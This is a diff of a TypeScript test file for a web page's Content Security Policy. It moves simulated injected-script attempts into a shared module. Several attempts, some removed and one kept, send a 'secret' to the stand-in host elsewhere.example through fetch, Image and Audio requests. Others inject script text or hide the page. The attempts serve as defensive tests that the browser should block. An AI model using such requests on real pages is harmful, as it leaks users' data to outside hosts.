@@ -1,47 +1,15 @@
 /** The policy limits what an injected script could do. */
+import { attempts as common } from './policy-attempts.ts'
 import { expect, test } from './test.ts'
 
 // The wording is the browser's.
 test.use({ expectedMessages: [/policy|trusted|^request to https:\/\/elsewhere\./i] })
 
 const attempts: Readonly<Record<string, () => unknown>> = {
-  'base-uri': () => {
-    document.head.append(Object.assign(document.createElement('base'), { href: '/elsewhere/' }))
-  },
-  'require-trusted-types-for': () => {
-    try {
-      document.body.innerHTML = '<p>Of a string'
-    } catch {}
-    // A string is not a trusted script either.
-    try {
-      document.createElement('script').text = 'document.title = "taken"'
-    } catch {}
-    try {
-      document.createElement('object').data = '/favicon.svg'
-    } catch {}
-  },
-  'trusted-types': () => {
-    try {
-      Object(window).trustedTypes.createPolicy('own', {})
-    } catch {}
-  },
-  'style-src-elem': () => {
-    const style = document.createElement('style')
-    style.textContent = 'body { display: none }'
-    document.head.append(style)
-  },
+  ...common,
   'style-src-attr': () => document.body.setAttribute('style', 'display: none'),
-  'connect-src': () => fetch('https://elsewhere.example/').catch(() => {}),
-  'img-src': () => {
-    new Image().src = 'https://elsewhere.example/?secret'
-  },
   'media-src': () => {
     new Audio('https://elsewhere.example/?secret').load()
-  },
-  'form-action': () => {
-    const form = Object.assign(document.createElement('form'), { action: '/elsewhere' })
-    document.body.append(form)
-    form.submit()
   },
   'frame-src': () => {
     document.body.append(Object.assign(document.createElement('iframe'), { src: '/' }))
